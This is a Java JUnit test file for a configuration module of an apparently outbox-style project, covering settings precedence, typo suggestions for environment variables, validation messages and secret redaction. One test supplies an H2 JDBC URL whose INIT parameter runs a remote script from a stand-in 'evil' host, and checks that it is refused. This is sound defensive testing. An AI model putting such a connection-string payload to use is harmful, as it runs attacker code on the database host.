package dev.waybill.outbox.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.waybill.outbox.OutboxConfig;
import dev.waybill.outbox.jdbc.DatabaseSettings;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

class SettingsTest {

  @Test
  void laterSourcesWinAndEnvironmentNamesAreDerivedFromKeys() {
    Properties file = new Properties();
    file.setProperty("db.url", "jdbc:postgresql://file/app");
    file.setProperty("db.user", "file-user");
    Settings s =
        Settings.builder()
            .properties(file)
            .environment(
                Map.of("WAYBILL_DB_USER", "env-user", "WAYBILL_KAFKA_SASL_MECHANISM", "PLAIN"),
                DatabaseSettings.SETTINGS,
                List.of("kafka."))
            .put("db.password", "pw")
            .build();
    assertThat(DatabaseSettings.URL.environmentName()).isEqualTo("WAYBILL_DB_URL");
    assertThat(OutboxConfig.MAX_MESSAGE_BYTES.environmentName())
        .isEqualTo("WAYBILL_OUTBOX_MESSAGE_MAX_BYTES");
    Settings.Reader r = s.reader();
    DatabaseSettings db = DatabaseSettings.read(r);
    r.finish();
    assertThat(db.url()).isEqualTo("jdbc:postgresql://file/app");
    assertThat(db.user()).isEqualTo("env-user");
    assertThat(s.raw("kafka.sasl.mechanism")).contains("PLAIN");
  }

  @Test
  void misspeltEnvironmentVariablesAreReportedNamingTheClosestSettingAndOthersAreLeftAlone() {
    Map<String, String> env = new HashMap<>();
    env.put("WAYBILL_DB_URLL", "jdbc:postgresql://typo/app"); // owned family: a typo
    env.put("WAYBILL_DBURL", "jdbc:postgresql://typo/app"); // no family, 1 edit from a setting
    env.put("WAYBILL_OUTBOX_TABEL", "orders"); // owned family, a transposition
    env.put("WAYBILL_DB_USER", "app"); // a setting
    env.put("WAYBILL_TEST_PG_URL", "jdbc:postgresql://ci/test"); // reserved for the tests
    env.put("WAYBILL_LOG_LEVEL", "DEBUG"); // reserved: the jars' log level
    env.put("WAYBILL_INBOX_GROUP_ID", "billing"); // another process's family
    env.put("WAYBILL_RELAY_BACH_SIZE", "10"); // another process's family, even misspelt
    env.put("WAYBILL_SOMETHING_ELSE", "x"); // no family, far from every setting: a warning
    env.put("PATH", "/usr/bin");
    List<Setting<?>> known = new ArrayList<>(DatabaseSettings.SETTINGS);
    known.addAll(OutboxConfig.SETTINGS);
    Settings s = Settings.builder().environment(env, known, List.of()).build();
    assertThat(s.unusedVariables())
        .containsExactly(
            "WAYBILL_DBURL",
            "WAYBILL_DB_URLL",
            "WAYBILL_INBOX_GROUP_ID",
            "WAYBILL_OUTBOX_TABEL",
            "WAYBILL_RELAY_BACH_SIZE",
            "WAYBILL_SOMETHING_ELSE");
    Logger logger = (Logger) LoggerFactory.getLogger(Settings.class);
    ListAppender<ILoggingEvent> logged = new ListAppender<>();
    logged.start();
    logger.addAppender(logged);
    List<String> problems;
    try {
      problems = s.unknownVariables(List.of("db.", "outbox."), known);
    } finally {
      logger.detachAppender(logged);
    }
    assertThat(problems)
        .containsExactlyInAnyOrder(
            "(environment) → WAYBILL_DBURL → not the environment variable of a setting; did you"
                + " mean WAYBILL_DB_URL? (see docs/configuration.md)",
            "(environment) → WAYBILL_DB_URLL → not the environment variable of a setting; did you"
                + " mean WAYBILL_DB_URL? (see docs/configuration.md)",
            "(environment) → WAYBILL_OUTBOX_TABEL → not the environment variable of a setting;"
                + " did you mean WAYBILL_OUTBOX_TABLE? (see docs/configuration.md)")
        .noneMatch(p -> p.contains("typo/app"));
    assertThat(logged.list)
        .extracting(ILoggingEvent::getLevel, ILoggingEvent::getFormattedMessage)
        .containsExactly(
            tuple(
                Level.WARN,
                "environment variable WAYBILL_SOMETHING_ELSE is not a Waybill setting and is"
                    + " ignored"));
    // the environment's own values are still read
    assertThat(s.raw("db.user")).contains("app");
    assertThat(Settings.of(Map.of()).unknownVariables(List.of("db."), known)).isEmpty();
  }

  @Test
  void closestKeyIsSuggestedOnlyWhenItIsFewEditsAway() {
    assertThat(Settings.closestKey("db.pool.sise", DatabaseSettings.SETTINGS))
        .contains("db.pool.size");
    assertThat(Settings.closestKey("db.connection.timeout.ms", DatabaseSettings.SETTINGS))
        .isEmpty();
    assertThat(Settings.distance("WAYBILL_DB_URL", "WAYBILL_DB_URLL")).isEqualTo(1);
    assertThat(Settings.distance("TABLE", "TABEL")).as("a transposition is one edit").isEqualTo(1);
  }

  @Test
  void reportsEveryProblemAtOnceWithValueKeyAndReason() {
    Settings s =
        Settings.of(
            Map.of(
                "db.url", "jdbc:oracle:thin:@x",
                "db.password", "hunter2",
                "db.pool.size", "zero",
                "db.connect.timeout", "forever",
                "outbox.table", "drop table",
                "outbox.message.max.bytes", "10"));
    Settings.Reader r = s.reader();
    DatabaseSettings.read(r);
    OutboxConfig.read(r);
    assertThatThrownBy(r::finish)
        .isInstanceOf(ConfigException.class)
        .satisfies(
            e ->
                assertThat(((ConfigException) e).problems())
                    .containsExactlyInAnyOrder(
                        "(missing) → db.user → required: set it in the config file, with --set"
                            + " db.user=... or as environment variable WAYBILL_DB_USER",
                        "'zero' → db.pool.size → expected a whole number",
                        "'forever' → db.connect.timeout → expected a duration such as 500ms, 30s,"
                            + " 5m or PT30S",
                        "'jdbc:oracle:thin:@x' → db.url → no Waybill dialect for JDBC URL scheme"
                            + " 'jdbc:oracle:': supported are jdbc:postgresql:, jdbc:mysql:,"
                            + " jdbc:mariadb: and jdbc:h2:",
                        "'drop table' → outbox.table → expected a name of letters, digits and"
                            + " underscores (optionally schema.name) that is not a reserved word",
                        "'10' → outbox.message.max.bytes → expected a number from 1024 to"
                            + " 268435456"))
        .hasMessageStartingWith("invalid configuration (6 problems):\n  - ")
        .hasMessageNotContaining("hunter2");
  }

  @Test
  void secretValuesAreNeverShown() {
    Setting<Integer> port = Setting.integer("http.port", 8080, 0, 65535, "port");
    Settings.Reader r = Settings.of(Map.of("http.port", "70000")).reader();
    assertThat(r.get(port)).isNull();
    assertThat(r.problems())
        .containsExactly("'70000' → http.port → expected a number from 0 to 65535");
    DatabaseSettings db =
        new DatabaseSettings(
            "jdbc:postgresql://h/db?password=pw1", "u", "pw2", 2, Duration.ofSeconds(1));
    assertThat(db.toString()).doesNotContain("pw1").doesNotContain("pw2");
    assertThat(DatabaseSettings.redactUrl("jdbc:mysql://u:pw3@h/db"))
        .isEqualTo("jdbc:mysql://u:***@h/db");
  }

  @Test
  void durationsAcceptShortAndIsoForms() {
    Setting<Duration> d =
        Setting.duration("relay.poll.interval", "1s", Duration.ZERO, Duration.ofHours(1), "x");
    assertThat(d.parse("250ms")).isEqualTo(Duration.ofMillis(250));
    assertThat(d.parse("PT2M")).isEqualTo(Duration.ofMinutes(2));
    assertThatThrownBy(() -> d.parse("2h")).hasMessage("expected a duration from 0s to 1h");
  }

  @Test
  void unknownKeysInOwnedFamiliesAreReported() {
    Settings s = Settings.of(Map.of("db.ulr", "x", "kafka.acks", "all", "db.url", "y"));
    assertThat(s.unknownKeys(List.of("db.", "outbox."), DatabaseSettings.SETTINGS))
        .containsExactly("db.ulr");
  }

  @Test
  void anH2UrlThatRunsScriptsAtConnectIsRefusedNamingTheParameter() {
    Settings.Reader r =
        Settings.of(
                Map.of(
                    "db.url",
                    "jdbc:h2:mem:x;MODE=PostgreSQL; init = RUNSCRIPT FROM 'http://evil/x.sql'",
                    "db.user",
                    "sa",
                    "db.password",
                    ""))
            .reader();
    assertThat(DatabaseSettings.read(r)).isNull();
    assertThat(r.problems())
        .singleElement(org.assertj.core.api.InstanceOfAssertFactories.STRING)
        .contains("→ db.url →")
        .contains("remove the INIT parameter");
  }

  @Test
  void aUrlNoDriverOnTheClassPathAcceptsIsRefusedAtStart() {
    Settings.Reader r =
        Settings.of(
                Map.of("db.url", "jdbc:mysql://h/db", "db.user", "u", "db.password", "secret-pw"))
            .reader();
    assertThat(DatabaseSettings.read(r)).isNull();
    assertThat(r.problems())
        .singleElement(org.assertj.core.api.InstanceOfAssertFactories.STRING)
        .contains("'jdbc:mysql://h/db' → db.url → no JDBC driver")
        .doesNotContain("secret-pw");
  }
}
